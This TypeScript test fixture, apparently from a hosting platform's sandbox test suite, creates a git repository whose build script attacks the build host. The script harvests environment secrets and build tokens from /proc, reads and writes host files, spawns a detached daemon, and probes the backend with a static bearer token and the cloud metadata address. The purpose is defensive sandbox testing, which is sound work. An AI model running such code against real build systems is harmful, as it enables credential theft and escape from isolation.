import { execFileSync } from 'child_process';
import fs from 'fs';
import os from 'os';
import path from 'path';

/** What the hostile build is pointed at: the host's secrets, as absolute paths and pids. */
export type HostileTargets = {
  /** Processes whose environment holds secrets (the backend, a stand-in). */
  pids: Record<string, number>;
  /** Files to read and to open for writing (database, app-config, another project's blob). */
  files: Record<string, string>;
  /** Directories to list and to write a file into (checkout, store, backend cwd). */
  dirs: Record<string, string>;
  /**
   * A server of the test on the host's loopback, allow-listed for the
   * egress proxy: the daemon calls it after `daemonDelayMs`.
   */
  serverUrl: string;
  /** The backend (on the host's loopback, not allow-listed). */
  backendUrl: string;
  daemonDelayMs: number;
  /** In the daemon's command line and in every file the build writes. */
  marker: string;
};

/** One attempt of the hostile build: what it got, or the error code. */
export type Attempt =
  | { ok: true; bytes?: number; entries?: string[] }
  | {
      ok: false;
      code: string;
    };

/** dist/report.json of the hostile build. */
export type HostileReport = {
  /** Every /proc/<pid> the build saw, with what it could read of it. */
  processes: Array<{ pid: number; cmdline: string; environ: string | null }>;
  environ: Record<string, Attempt>;
  reads: Record<string, Attempt>;
  writes: Record<string, Attempt>;
  listings: Record<string, Attempt>;
  /** NOVAHOST_BUILD_TOKEN values found anywhere the build could look. */
  tokens: string[];
  /** The setsid'd daemon, as the build saw it right after starting it. */
  daemon: { pid: number; running: boolean };
  /** A request to the test's server during the build, through the egress proxy (the network works). */
  hello: Attempt;
  /**
   * The backend straight (the sandbox's own loopback), through the proxy
   * (as the guest, and with the embedded default's static token), and the
   * cloud metadata address straight.
   */
  network: Record<
    'backendDirect' | 'backendProxied' | 'tokenProxied' | 'metadataDirect',
    Attempt
  >;
  workdir: string;
};

/**
 * The build script: tries each attack on the host the issue lists and
 * writes what happened to dist/report.json. It never fails, so the report
 * is published whatever the build could or could not do.
 */
const ATTACK_JS = `
const fs = require('fs');
const http = require('http');
const path = require('path');
const { spawn } = require('child_process');
const t = require('./targets.json');
const attempt = f => {
  try { return { ok: true, ...f() }; } catch (e) { return { ok: false, code: e.code || String(e) }; }
};
const report = { processes: [], environ: {}, reads: {}, writes: {}, listings: {}, tokens: [], workdir: process.cwd() };

// Every process the build can see, and whatever of its environment it can read.
for (const name of fs.readdirSync('/proc').filter(n => /^[0-9]+$/.test(n))) {
  const read = f => { try { return fs.readFileSync('/proc/' + name + '/' + f, 'utf8').split('\\0').join(' '); } catch { return null; } };
  report.processes.push({ pid: Number(name), cmdline: read('cmdline') || '', environ: read('environ') });
}
for (const [what, pid] of Object.entries(t.pids)) {
  report.environ[what] = attempt(() => ({ bytes: fs.readFileSync('/proc/' + pid + '/environ').length }));
}
for (const p of report.processes) {
  for (const m of ((p.environ || '') + ' ' + p.cmdline).matchAll(/NOVAHOST_BUILD_TOKEN=(\\S+)/g)) report.tokens.push(m[1]);
}
for (const [what, file] of Object.entries(t.files)) {
  report.reads[what] = attempt(() => ({ bytes: fs.readFileSync(file).length }));
  // Opened for writing, not written: should the sandbox fail, nothing is lost.
  report.writes[what] = attempt(() => { fs.closeSync(fs.openSync(file, 'r+')); return {}; });
}
for (const [what, dir] of Object.entries(t.dirs)) {
  report.listings[what] = attempt(() => ({ entries: fs.readdirSync(dir) }));
  report.writes[what] = attempt(() => { fs.writeFileSync(path.join(dir, t.marker), t.marker); return {}; });
}
report.listings.tmp = attempt(() => ({ entries: fs.readdirSync('/tmp') }));
report.listings.workParent = attempt(() => ({ entries: fs.readdirSync(path.resolve(process.cwd(), '..', '..', '..')) }));

// A daemon in its own session (detached: setsid), meant to outlive the build.
const daemon = spawn(process.execPath, ['-e', \`
  setTimeout(() => {
    require('http').get(\${JSON.stringify(t.serverUrl + '/daemon')}, () => {}).on('error', () => {});
    setTimeout(() => {}, 60000);
  }, \${t.daemonDelayMs});
\`, t.marker], { detached: true, stdio: 'ignore' });
daemon.unref();
report.daemon = { pid: daemon.pid, running: fs.existsSync('/proc/' + daemon.pid) };

// HTTP goes through the egress proxy (HTTP_PROXY, NODE_USE_ENV_PROXY).
const get = (url, headers) => new Promise(resolve => {
  http.get(url, { headers }, res => {
    let body = '';
    res.on('data', c => (body += c));
    res.on('end', () => resolve(res.statusCode === 200 ? { ok: true } : { ok: false, code: 'HTTP ' + res.statusCode + ': ' + body.trim() }));
  }).on('error', e => resolve({ ok: false, code: e.code || String(e) }));
});
const connect = (host, port) => new Promise(resolve => {
  const s = require('net').connect({ host, port });
  s.setTimeout(5000, () => { s.destroy(); resolve({ ok: false, code: 'TIMEOUT' }); });
  s.on('connect', () => { s.destroy(); resolve({ ok: true }); });
  s.on('error', e => resolve({ ok: false, code: e.code || String(e) }));
});
const backend = new URL(t.backendUrl);
(async () => {
  report.hello = await get(t.serverUrl + '/hello');
  report.network = {
    backendDirect: await connect('127.0.0.1', Number(backend.port)),
    backendProxied: await get(t.backendUrl + '/api/auth/guest/refresh'),
    tokenProxied: await get(t.backendUrl + '/api/novahost/projects', { authorization: 'Bearer novahost-local-api-token' }),
    metadataDirect: await connect('169.254.169.254', 80),
  };
  finish();
})();

function finish() {
  fs.mkdirSync('dist', { recursive: true });
  fs.writeFileSync('dist/index.html', '<h1>hostile</h1>');
  fs.writeFileSync('dist/report.json', JSON.stringify(report));
  console.log('hostile build done: ' + report.processes.length + ' processes visible');
}
`;

/**
 * A git repository whose `npm run build` attacks the host it runs on
 * (see {@link HostileReport}); `targets` tells it where to look.
 */
export function createHostileRepo(targets: HostileTargets): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'novahost-hostile-'));
  const files: Record<string, string> = {
    'package.json': JSON.stringify({
      name: 'hostile',
      version: '1.0.0',
      private: true,
      scripts: { build: 'node attack.js' },
    }),
    'package-lock.json': JSON.stringify({
      name: 'hostile',
      version: '1.0.0',
      lockfileVersion: 3,
      requires: true,
      packages: { '': { name: 'hostile', version: '1.0.0' } },
    }),
    'attack.js': ATTACK_JS,
    'targets.json': JSON.stringify(targets, null, 2),
  };
  for (const [name, content] of Object.entries(files)) {
    fs.writeFileSync(path.join(dir, name), content);
  }
  const git = (...args: string[]) =>
    execFileSync(
      'git',
      ['-c', 'user.email=test@novahost.dev', '-c', 'user.name=Test', ...args],
      { cwd: dir },
    );
  git('init', '-q', '-b', 'main');
  git('add', '-A');
  git('commit', '-q', '-m', 'hostile');
  return dir;
}
